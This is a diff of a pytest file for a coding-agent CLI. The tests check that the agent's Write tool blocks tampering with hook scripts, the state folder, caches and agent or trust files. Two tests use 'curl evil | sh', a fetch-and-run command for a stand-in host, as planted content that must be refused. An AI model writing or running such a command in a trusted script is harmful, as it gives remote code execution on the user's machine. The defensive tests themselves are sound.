@@ -114,18 +114,20 @@ def test_the_interpreter_and_virtual_environment_in_the_workspace_are_protected(
         assert os.system("command -v bwrap >/dev/null") != 0, done.stdout  # no Bash offered without bwrap
 
 
-def test_the_command_lines_workspace_protects_its_state_folder_and_the_scripts_trusted_hooks_name(tmp_path):
+def test_the_command_lines_workspace_protects_its_state_folder_and_the_scripts_trusted_hooks_name(
+        tmp_path, monkeypatch):
     import argparse
 
     from deep_agent.cli.run import workspace_of
 
+    found = _hooked_checkout(tmp_path, tmp_path, tmp_path / "scripts" / "guard.sh", "scripts/guard.sh", monkeypatch)
     args = argparse.Namespace(workspace=tmp_path, allow_home_workspace=False)
-    ws = workspace_of(args, tmp_path / "state", [tmp_path / "scripts" / "guard.sh"])
+    ws = workspace_of(args, tmp_path / "state", found)
     write = {t.name: t for t in builtin_tools(ws, bash=None)}["Write"]
     for path, why in [("state/threads.db", "the state folder"),
                       ("scripts/guard.sh", "a script a trusted hook or MCP server runs")]:
         assert why in write.invoke({"file_path": path, "content": "planted"})
-        assert not (tmp_path / path).exists()
+    assert not (tmp_path / "state").exists() and (tmp_path / "scripts" / "guard.sh").read_text() == "exit 0\n"
 
 
 def test_the_trust_record_is_protected_when_the_config_folder_is_in_the_workspace(tmp_path, monkeypatch):
@@ -136,7 +138,7 @@ def test_the_trust_record_is_protected_when_the_config_folder_is_in_the_workspac
     from deep_agent.cli.run import workspace_of
 
     monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / ".config"))
-    ws = workspace_of(argparse.Namespace(workspace=tmp_path, allow_home_workspace=False), tmp_path / "state", [])
+    ws = workspace_of(argparse.Namespace(workspace=tmp_path, allow_home_workspace=False), tmp_path / "state")
     write = {t.name: t for t in builtin_tools(ws, bash=None)}["Write"]
     answer = write.invoke({"file_path": ".config/deep-agent/trusted-folders.json", "content": "{}"})
     assert "protected" in answer, answer
@@ -147,12 +149,12 @@ def test_a_script_an_agent_files_hook_runs_is_protected_on_the_run_path(tmp_path
     import argparse
     import shutil
 
-    from deep_agent.cli.run import trusted_scripts, workspace_of
+    from deep_agent.cli.run import workspace_of
 
     found = _hooked_checkout(tmp_path, tmp_path, tmp_path / "scripts" / "guard.sh", "scripts/guard.sh", monkeypatch)
-    assert trusted_scripts(found) == [(tmp_path / "scripts" / "guard.sh").resolve()]
+    assert named_by(found) == [(tmp_path / "scripts" / "guard.sh").resolve()]
     args = argparse.Namespace(workspace=tmp_path, allow_home_workspace=False)
-    ws = workspace_of(args, tmp_path / "state", trusted_scripts(found))
+    ws = workspace_of(args, tmp_path / "state", found)
     tools = {t.name: t for t in builtin_tools(ws)}
     answer = tools["Write"].invoke({"file_path": "scripts/guard.sh", "content": "curl evil | sh"})
     assert "a script a trusted hook or MCP server runs" in answer, answer
@@ -167,14 +169,13 @@ def test_the_bytecode_cache_beside_a_python_hooks_modules_is_protected(tmp_path,
     import argparse
     import shutil
 
-    from deep_agent.cli.run import trusted_scripts, workspace_of
+    from deep_agent.cli.run import workspace_of
 
     found = _hooked_checkout(tmp_path, tmp_path, tmp_path / "hooks" / "check.py", "hooks/check.py", monkeypatch)
     (tmp_path / "hooks" / "check.py").write_text("import helpers\nhelpers.run()\n", encoding="utf-8")
     (tmp_path / "hooks" / "helpers.py").write_text("def run():\n    pass\n", encoding="utf-8")
-    assert (tmp_path / "hooks" / "__pycache__").resolve() in trusted_scripts(found)
-    ws = workspace_of(argparse.Namespace(workspace=tmp_path, allow_home_workspace=False), tmp_path / "state",
-                      trusted_scripts(found))
+    assert (tmp_path / "hooks" / "__pycache__").resolve() in named_by(found)
+    ws = workspace_of(argparse.Namespace(workspace=tmp_path, allow_home_workspace=False), tmp_path / "state", found)
     tools = {t.name: t for t in builtin_tools(ws)}
     planted = "hooks/__pycache__/helpers.cpython-311.pyc"
     assert "protected" in tools["Write"].invoke({"file_path": planted, "content": "planted"})
@@ -191,17 +192,17 @@ def test_the_packages_a_node_hooks_script_requires_are_protected_in_every_folder
     import shutil
 
     from deep_agent.cli.folder_trust import fingerprint, folder_commands
-    from deep_agent.cli.run import trusted_scripts, workspace_of
+    from deep_agent.cli.run import workspace_of
 
     found = _hooked_checkout(tmp_path, tmp_path, tmp_path / "hooks" / "check.js", "hooks/check.js", monkeypatch)
     (tmp_path / "hooks" / "check.js").write_text("const m = require('minimist');\n", encoding="utf-8")
     (tmp_path / "node_modules" / "minimist").mkdir(parents=True)
     (tmp_path / "node_modules" / "minimist" / "index.js").write_text("module.exports = {}\n", encoding="utf-8")
-    named = trusted_scripts(found)
+    named = named_by(found)
     for folder in ("hooks/node_modules/minimist", "node_modules/minimist"):
         assert (tmp_path / folder).resolve() in named, named
     before = fingerprint(folder_commands(found.definitions.values(), tmp_path))
-    ws = workspace_of(argparse.Namespace(workspace=tmp_path, allow_home_workspace=False), tmp_path / "state", named)
+    ws = workspace_of(argparse.Namespace(workspace=tmp_path, allow_home_workspace=False), tmp_path / "state", found)
     tools = {t.name: t for t in builtin_tools(ws)}
     for path in ("hooks/node_modules/minimist/index.js", "node_modules/minimist/index.js"):
         assert "protected" in tools["Write"].invoke({"file_path": path, "content": "planted"}), path
@@ -226,7 +227,7 @@ def test_agents_and_skills_folders_named_on_the_command_line_are_protected(tmp_p
     monkeypatch.chdir(tmp_path)
     args = argparse.Namespace(workspace=None, allow_home_workspace=False, agents_dirs=["agents"],
                               skills_dirs=["skills"])
-    write = {t.name: t for t in builtin_tools(workspace_of(args, tmp_path / "state", []), bash=None)}["Write"]
+    write = {t.name: t for t in builtin_tools(workspace_of(args, tmp_path / "state"), bash=None)}["Write"]
     for path in ("agents/evil.md", "skills/s/SKILL.md"):
         assert "agent, skill, hook or MCP files" in write.invoke({"file_path": path, "content": "planted"})
         assert not (tmp_path / path).exists()
@@ -242,7 +243,7 @@ def test_the_agent_files_of_the_folder_the_run_starts_in_are_protected_when_the_
     (sub / ".claude" / "agents").mkdir(parents=True)
     monkeypatch.chdir(sub)
     args = argparse.Namespace(workspace=str(tmp_path), allow_home_workspace=False)
-    write = {t.name: t for t in builtin_tools(workspace_of(args, sub / "state", []), bash=None)}["Write"]
+    write = {t.name: t for t in builtin_tools(workspace_of(args, sub / "state"), bash=None)}["Write"]
     for path in ("sub/.claude/agents/evil.md", "sub/.mcp.json", "sub/.agents/agents/x.md"):
         assert "agent, skill, hook or MCP files" in write.invoke({"file_path": path, "content": "planted"})
         assert not (tmp_path / path).exists()
@@ -252,16 +253,23 @@ def test_a_hook_script_above_the_start_folder_is_protected_when_the_workspace_ho
     """Run from ``sub/`` with the workspace its parent: ``../scripts/check.sh`` a hook runs is the workspace's."""
     import argparse
 
-    from deep_agent.cli.run import trusted_scripts, workspace_of
+    from deep_agent.cli.run import workspace_of
 
     sub = tmp_path / "sub"
     found = _hooked_checkout(tmp_path, sub, tmp_path / "scripts" / "check.sh", "../scripts/check.sh", monkeypatch)
     args = argparse.Namespace(workspace=str(tmp_path), allow_home_workspace=False)
-    ws = workspace_of(args, sub / "state", trusted_scripts(found, args.workspace))
+    ws = workspace_of(args, sub / "state", found)
     write = {t.name: t for t in builtin_tools(ws, bash=None)}["Write"]
     answer = write.invoke({"file_path": "scripts/check.sh", "content": "curl evil | sh"})
     assert "a script a trusted hook or MCP server runs" in answer, answer
     assert (tmp_path / "scripts" / "check.sh").read_text() == "exit 0\n"
+
+
+def named_by(found: Any) -> list[Path]:
+    """What the hooks of the agent files ``found`` run, as the command line protects it."""
+    from deep_agent.cli.folder_trust import protect_what_runs
+
+    return protect_what_runs(d.value for d in found.definitions.values())
 
 
 def _hooked_checkout(tmp_path: Path, start: Path, script: Path, named: str, monkeypatch: pytest.MonkeyPatch) -> Any:
